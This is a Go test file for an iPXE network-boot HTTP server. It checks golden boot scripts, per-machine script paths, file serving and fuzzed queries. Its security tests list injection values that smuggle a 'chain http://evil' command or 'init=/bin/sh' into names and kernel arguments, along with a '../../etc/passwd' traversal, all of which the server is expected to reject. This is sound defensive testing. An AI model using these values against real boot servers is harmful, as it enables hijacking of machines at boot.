package netboot

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"testing/fstest"
	"time"
)

// get asks the boot server as a machine at 10.77.0.120 does.
func (s *setup) get(method, target string, header ...string) *httptest.ResponseRecorder {
	local := &net.TCPAddr{IP: net.IPv4(10, 77, 0, 1), Port: 80}
	req := httptest.NewRequestWithContext(context.WithValue(context.Background(), http.LocalAddrContextKey, local), method, target, nil)
	req.RemoteAddr = "10.77.0.120:5555"
	req.Host = "evil.example"
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	w := httptest.NewRecorder()
	s.Handler().ServeHTTP(w, req)
	return w
}

const (
	goldenStub = `#!ipxe
chain --replace http://10.77.0.1:80/boot/PATH/script?mac=${netX/mac}&uuid=${uuid}&platform=${platform}&arch=${buildarch} || exit 1
`
	goldenAutoexec = `#!ipxe
dhcp || exit 1
chain --replace http://10.77.0.1:80/boot/script || exit 1
`
	goldenAgent = `#!ipxe
echo LPMOS: starting the agent. web1: a task waits
imgfree
kernel http://10.77.0.1:80/boot/vmlinuz initrd=initrd console=tty0 console=ttyS0,115200 lpmos.node=https://10.77.0.1:80 lpmos.mac=52:54:00:00:00:0a lpmos.time=1700000000 lpmos.pin=ab12 lpmos.claim=claim-52540000000a-10-77-0-120 nomodeset || goto local
initrd --name initrd http://10.77.0.1:80/boot/initrd || goto local
boot || goto local
:local
echo LPMOS: the agent could not be started; booting the disk
imgfree
iseq ${platform} efi && exit 1 ||
sanboot --no-describe --drive 0x80 || exit 1
`
	goldenLocal = `#!ipxe
echo LPMOS: booting the disk. web1: installed
iseq ${platform} efi && exit 1 ||
sanboot --no-describe --drive 0x82 || exit 1
`
)

func TestScriptsAreGolden(t *testing.T) {
	s := newSetup(t, ModeDHCP)
	s.cfg.KernelArgs = "nomodeset"
	agent := Decision{Action: BootAgent, Name: "web1", Reason: "a task waits"}
	local := Decision{Action: BootLocal, Name: "web1", Reason: "installed", LocalDrive: 2}
	mine := "/boot/" + s.path(macA) + "/script?mac=" + macA + "&uuid=12345678-abcd-efcd-0102-030405060708&platform=efi"
	for name, c := range map[string]struct {
		d    Decision
		path string
		want string
	}{
		"before the machine has said who it is": {agent, "/boot/" + s.path(macA) + "/script", strings.Replace(goldenStub, "PATH", s.path(macA), 1)},
		"before it was given a path":            {agent, "/boot/script", strings.Replace(goldenStub, "PATH", s.path(""), 1)},
		"for newer iPXE":                        {agent, "/boot/autoexec.ipxe", goldenAutoexec},
		"the agent":                             {agent, mine, goldenAgent},
		"the agent, else the second disk":       {Decision{Action: BootAgent, Name: "web1", Reason: "a task waits", LocalDrive: 1}, mine, strings.Replace(goldenAgent, "0x80", "0x81", 1)},
		"a MAC with hyphens":                    {agent, strings.ReplaceAll(mine, ":", "-"), goldenAgent},
		"the disk":                              {local, mine, goldenLocal},
		"nothing, but it has come this far":     {Decision{Action: BootNothing, Name: "web1", Reason: "installed", LocalDrive: 2}, mine, goldenLocal},
		"no action at all means the disk":       {Decision{Name: "web1", Reason: "installed", LocalDrive: 2}, mine, goldenLocal},
		"a drive that cannot be":                {Decision{Action: BootLocal, Name: "web1", Reason: "installed", LocalDrive: 4711}, mine, strings.Replace(goldenLocal, "0x82", "0x80", 1)},
		"a MAC that is none":                    {agent, "/boot/" + s.path(macA) + "/script?mac=x", strings.Replace(strings.Replace(goldenLocal, "web1: installed", "this machine did not say who it is", 1), "0x82", "0x80", 1)},
		"an unexpanded MAC":                     {agent, "/boot/" + s.path(macA) + "/script?mac=" + url.QueryEscape("${netX/mac}"), strings.Replace(strings.Replace(goldenLocal, "web1: installed", "this machine did not say who it is", 1), "0x82", "0x80", 1)},
	} {
		s.fleet.boots(macA, c.d)
		w := s.get("GET", c.path)
		if w.Code != 200 || w.Body.String() != c.want {
			t.Errorf("%s: %d\n%s\nwant\n%s", name, w.Code, w.Body, c.want)
		}
		if w.Header().Get("Cache-Control") != "no-store" {
			t.Errorf("%s: may be cached", name)
		}
	}
}

// Whoever can name a machine must not be able to program it.
func TestS24_ValuesThatAreProgramsAreDropped(t *testing.T) {
	s := newSetup(t, ModeDHCP)
	s.cfg.KernelArgs = "nomodeset"
	for _, evil := range []string{
		"x\nchain http://evil/p\n#", "${net0/mac}", "a && shell", "a || shell", "\r", "a\u2028b", strings.Repeat("A", 4096),
		"x`y", "a\x00b", "a\\nb", "A init=/bin/sh", "<script>", "ü",
	} {
		s.fleet.boots(macA, Decision{Action: BootAgent, Name: evil, Reason: "a task waits"})
		want := strings.Replace(goldenAgent, "web1: a", "a", 1)
		if got := s.get("GET", "/boot/"+s.path(macA)+"/script?mac="+macA+"&uuid="+url.QueryEscape(evil)+"&platform="+url.QueryEscape(evil)+"&serial="+url.QueryEscape(evil)).Body.String(); got != want {
			t.Errorf("name %.40q:\n%s", evil, got)
		}
		s.fleet.boots(macA, Decision{Action: BootLocal, Name: "web1", Reason: evil, LocalDrive: 2})
		want = strings.Replace(goldenLocal, ": installed", "", 1)
		if got := s.get("GET", "/boot/"+s.path(macA)+"/script?mac="+macA).Body.String(); got != want {
			t.Errorf("reason %.40q:\n%s", evil, got)
		}
	}
	for args, ok := range map[string]bool{
		"": true, "nomodeset net.ifnames=0 console=ttyS1,115200n8": true, "a=b:c/d@e%f~g": true,
		"init=/bin/sh": false, "rdinit=/x": false, "initrd=x": false, "lpmos.node=http://evil": false, "a -- b": false,
		"a\nb": false, `"`: false, "${x}": false, "a;b": true, "a|b": false, strings.Repeat("a", 1025): false,
	} {
		if err := ValidateKernelArgs(args); (err == nil) != ok {
			t.Errorf("kernel_args %.40q: %v", args, err)
		}
	}
}

// The agent is told of the nodes to turn to, and nobody writes the script by what
// he calls himself.
func TestTheScriptNamesOtherNodes(t *testing.T) {
	near := &beside{urls: []string{"https://10.77.0.2:80", "https://10.77.0.1:80", "https://x", "https://10.77.0.9:80 init=/bin/sh", "https://10.77.0.9:80\n", "http://10.77.0.9:80",
		"https://[fd00::1]:80", "https://10.77.0.9", "https://10.77.0.2:80", "https://10.78.0.3:8080", "https://10.77.0.4:80"}}
	s := newSetupAt(t, testInterface(ModeDHCP), "10.77.0.1/24", near)
	s.cfg.KernelArgs = "nomodeset"
	s.fleet.boots(macA, Decision{Action: BootAgent, Name: "web1", Reason: "a task waits"})
	want := strings.Replace(goldenAgent, "lpmos.node=https://10.77.0.1:80", "lpmos.node=https://10.77.0.1:80 lpmos.node=https://10.77.0.2:80 lpmos.node=https://10.78.0.3:8080", 1)
	begin, end := strings.Index(want, "imgfree"), strings.Index(want, ":local")
	from := func(node, next string) string {
		try := strings.NewReplacer("http://10.77.0.1:80/", "http://"+node+"/", "goto local", "goto "+next).Replace(want[begin:end])
		return strings.Replace(try, "boot || goto "+next, "boot || goto local", 1)
	}
	want = want[:begin] + from("10.77.0.1:80", "node2") +
		":node2\necho LPMOS: trying the node at 10.77.0.2\n" + from("10.77.0.2:80", "node3") +
		":node3\necho LPMOS: trying the node at 10.78.0.3\n" + from("10.78.0.3:8080", "local") + want[end:]
	if got := s.get("GET", "/boot/"+s.path(macA)+"/script?mac="+macA).Body.String(); got != want {
		t.Errorf("%s", got)
	}
}

// S36: a script is had by who was given its address, from where it was given, and
// by nobody who knows or guesses a MAC.
func TestS36_AnotherMachinesScriptIsNotHad(t *testing.T) {
	s := newSetup(t, ModeDHCP)
	good := "/boot/" + s.path(macA) + "/script?mac=" + macA
	if w := s.get("GET", good); w.Code != 200 || !strings.Contains(w.Body.String(), "lpmos.claim=") {
		t.Fatalf("its own: %d %s", w.Code, w.Body)
	}
	elsewhere := s.paths().new(macA, netip.MustParseAddr("10.77.0.121"))
	for name, path := range map[string]string{
		"by MAC":                     "/boot/script?mac=" + macA,
		"by MAC, below the folder":   "/boot/?mac=" + macA,
		"by a path that is guessed":  "/boot/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/script?mac=" + macA,
		"by one that is shorter":     "/boot/aaaa/script?mac=" + macA,
		"by another machine's":       "/boot/" + s.path(macB) + "/script?mac=" + macA,
		"by its own, for another":    "/boot/" + s.path(macA) + "/script?mac=" + macB,
		"by its own, from elsewhere": "/boot/" + elsewhere + "/script?mac=" + macA,
		"by id":                      "/boot/" + s.path(macA) + "/script/1?mac=" + macA,
		"spoofed":                    "/boot/script?mac=" + macA + "&spoof=" + macB,
	} {
		if w := s.get("GET", path); w.Code != 404 || strings.Contains(w.Body.String(), "lpmos.") {
			t.Errorf("%s: %d %s", name, w.Code, w.Body)
		}
	}
	if len(s.fleet.served) != 1 {
		t.Errorf("the fleet was told of %d scripts", len(s.fleet.served))
	}
	s.pass(11 * time.Minute)
	if w := s.get("GET", good); w.Code != 404 {
		t.Errorf("after eleven minutes: %d", w.Code)
	}
}

// Who asks without a path from an address that this node has lent is the machine
// it was lent to.
func TestS36_ALentAddressGetsThePathOfItsMachine(t *testing.T) {
	s := newSetup(t, ModeDHCP)
	at := netip.MustParseAddr("10.77.0.120")
	begin := func() string {
		to := regexp.MustCompile("/boot/([a-z2-7]{32})/script").FindStringSubmatch(s.get("GET", "/boot/script").Body.String())
		if to == nil {
			t.Fatal("no path in the stub")
		}
		return to[1]
	}
	if !s.paths().leads(begin(), macB, at) {
		t.Error("an address that another server lent is anybody's")
	}
	s.fleet.keeps(macA, at)
	s.sightings.holds(macA, at)
	if p := begin(); !s.paths().leads(p, macA, at) || s.paths().leads(p, macB, at) {
		t.Error("a machine gets a path for another's script from the address it was lent")
	}
}

// Where this node lends the addresses, who comes from one that nobody lent and says
// the MAC of a machine that has its own is somebody else.
func TestS36_AnAddressNobodyLentGetsNoKnownMachinesScript(t *testing.T) {
	s := newSetup(t, ModeDHCP)
	s.fleet.keeps(macA, netip.MustParseAddr("10.77.0.50"))
	s.cfg.network = func(string) (netip.Prefix, error) { return netip.MustParsePrefix("10.77.0.1/24"), nil }
	ask := func(mac string) int {
		return s.get("GET", "/boot/"+s.paths().new("", netip.MustParseAddr("10.77.0.120"))+"/script?mac="+mac).Code
	}
	if got := ask(macA); got != 404 {
		t.Errorf("the script of a known machine is answered %d", got)
	}
	if got := ask(macB); got != 200 {
		t.Errorf("a machine nobody knows is answered %d", got)
	}
}

// A machine boots whether or not the nodes can agree on having told it what to.
func TestAScriptDoesNotWaitForTheFleet(t *testing.T) {
	s := newSetup(t, ModeDHCP)
	s.fleet.held = make(chan struct{})
	begin := time.Now()
	if w := s.get("GET", "/boot/"+s.path(macA)+"/script?mac="+macA); w.Code != 200 || !strings.Contains(w.Body.String(), "starting the agent") {
		t.Errorf("%d %s", w.Code, w.Body)
	}
	if took := time.Since(begin); took > 5*time.Second {
		t.Errorf("it waited for %v", took)
	}
	close(s.fleet.held)
	if err := eventually(t.Context(), func() error { // it is told all the same
		s.fleet.mu.Lock()
		defer s.fleet.mu.Unlock()
		if len(s.fleet.served) != 1 {
			return errors.New("the fleet was not told")
		}
		return nil
	}); err != nil {
		t.Error(err)
	}
}

func TestBootFilesOverHTTP(t *testing.T) {
	s := newSetup(t, ModeDHCP)
	whole := s.get("GET", "/boot/vmlinuz")
	etag := whole.Header().Get("ETag")
	if whole.Code != 200 || whole.Body.Len() != 600000 || len(etag) != 66 {
		t.Fatalf("%d, %d bytes, ETag %s", whole.Code, whole.Body.Len(), etag)
	}
	for _, c := range []struct {
		name, method, path string
		header             []string
		code, size         int
	}{
		{"a range", "GET", "/boot/vmlinuz", []string{"Range", "bytes=6-11"}, 206, 6},
		{"a range of the same file", "GET", "/boot/vmlinuz", []string{"Range", "bytes=6-11", "If-Range", etag}, 206, 6},
		{"a range of another build", "GET", "/boot/vmlinuz", []string{"Range", "bytes=6-11", "If-Range", `"other"`}, 200, 600000},
		{"a range past the end", "GET", "/boot/vmlinuz", []string{"Range", "bytes=999999-"}, 416, -1},
		{"the same again", "GET", "/boot/vmlinuz", []string{"If-None-Match", etag}, 304, 0},
		{"its size", "HEAD", "/boot/initrd", nil, 200, 0},
		{"a loader", "GET", "/boot/snponly.efi", nil, 200, 200000},
		{"a name with too many slashes", "GET", "/boot//snponly.efi", nil, 200, 200000},
		{"no file", "GET", "/boot/passwd", nil, 404, -1},
		{"the way out", "GET", "/boot/../../etc/passwd", nil, 404, -1},
		{"another folder", "GET", "/etc/passwd", nil, 404, -1},
		{"the folder", "GET", "/boot/", nil, 404, -1},
		{"a write", "POST", "/boot/vmlinuz", nil, 405, -1},
		{"a script's size", "HEAD", "/boot/script", nil, 200, 0},
	} {
		w := s.get(c.method, c.path, c.header...)
		if w.Code != c.code || c.size >= 0 && w.Body.Len() != c.size {
			t.Errorf("%s: %d with %d bytes, want %d with %d", c.name, w.Code, w.Body.Len(), c.code, c.size)
		}
	}
}

func TestMissingBootFilesAreNamed(t *testing.T) {
	f, err := LoadFiles(testFilesWithout(FileKernel, FileInitrd))
	if f == nil || err == nil || !strings.Contains(err.Error(), "vmlinuz, initrd; build them with: make boot-image") {
		t.Errorf("%v, %v", f, err)
	}
	if _, ok := f.find(LoaderBIOS); !ok {
		t.Error("what is there cannot be served")
	}
}

// FuzzScriptQuery: no query makes a script of another shape, and no byte of a
// value reaches it but a well-formed MAC.
func FuzzScriptQuery(f *testing.F) {
	f.Add("mac=52:54:00:00:00:0a&uuid=12345678-abcd-efcd-0102-030405060708&platform=efi")
	f.Add("mac=x%0achain+http://evil/")
	f.Add("uuid=%24%7Bnet0/mac%7D&mac=52-54-00-00-00-0b&platform=%0a")
	f.Add("mac")
	f.Add("mac=&mac=52:54:00:00:00:0a;")
	s := newSetup(f, ModeDHCP)
	shape := func(script string) string {
		if i := strings.Index(script, "lpmos.mac="); i >= 0 {
			return script[:i+10] + script[i+10+17:]
		}
		return script
	}
	known := map[string]bool{
		strings.Replace(goldenStub, "PATH", s.path(macA), 1):                         true,
		"404 page not found\n":                                                       true, // the path is not for that machine
		shape(s.get("GET", "/boot/"+s.path(macA)+"/script?mac="+macA).Body.String()): true,
		ipxe{}.local("this machine did not say who it is", 0):                        true,
	}
	f.Fuzz(func(t *testing.T, query string) {
		req := &http.Request{Method: "GET", URL: &url.URL{Path: "/boot/" + s.path(macA) + "/script", RawQuery: query}, RemoteAddr: "10.77.0.120:5"}
		req = req.WithContext(context.WithValue(context.Background(), http.LocalAddrContextKey, net.Addr(&net.TCPAddr{IP: net.IPv4(10, 77, 0, 1), Port: 80})))
		w := httptest.NewRecorder()
		s.Handler().ServeHTTP(w, req)
		s.strangers.forget(macA) // or it boots its disk from the sixth time on
		if got := w.Body.String(); !known[shape(got)] {
			t.Fatalf("query %q makes\n%s", query, got)
		}
	})
}

// A machine that takes nothing keeps its connection for so long and not for ever.
func TestAMachineThatTakesNothingIsLetGo(t *testing.T) {
	loopback(t)
	s := newSetup(t, ModeDHCP)
	fsys := testFilesWithout()
	fsys[FileInitrd] = &fstest.MapFile{Data: make([]byte, 64<<20)} // more than fits on the way
	var err error
	if s.cfg.Files, err = LoadFiles(fsys); err != nil {
		t.Fatal(err)
	}
	h := s.Handler().(*bootHTTP)
	h.within = func(size int64) time.Duration {
		if size != 64<<20 {
			t.Errorf("a file of %d bytes is sent", size)
		}
		return 100 * time.Millisecond
	}
	ended := make(chan struct{})
	node := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		defer close(ended)
		h.ServeHTTP(w, r)
	}))
	defer node.Close()
	conn, err := net.Dial("tcp", node.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := fmt.Fprintf(conn, "GET %s%s HTTP/1.1\r\nHost: n\r\n\r\n", BootPath, FileInitrd); err != nil {
		t.Fatal(err)
	}
	select {
	case <-ended:
	case <-time.After(10 * time.Second):
		t.Error("it is still waited for")
	}
}

// deadlined is an answer that knows until when it has to be written.
type deadlined struct {
	*httptest.ResponseRecorder
	ends []time.Time
}

func (d *deadlined) SetWriteDeadline(end time.Time) error {
	d.ends = append(d.ends, end)
	return nil
}

func TestAConnectionMayBeUsedAgainAfterAFile(t *testing.T) {
	s := newSetup(t, ModeDHCP)
	w := &deadlined{ResponseRecorder: httptest.NewRecorder()}
	began := time.Now()
	s.Handler().ServeHTTP(w, httptest.NewRequest("GET", BootPath+FileInitrd, nil))
	if len(w.ends) != 2 || w.ends[0].Sub(began) < sendTime(int64(w.Body.Len())) || !w.ends[1].IsZero() || w.Body.Len() != len(testFiles[FileInitrd].Data) {
		t.Errorf("%d bytes by %v", w.Body.Len(), w.ends)
	}
}
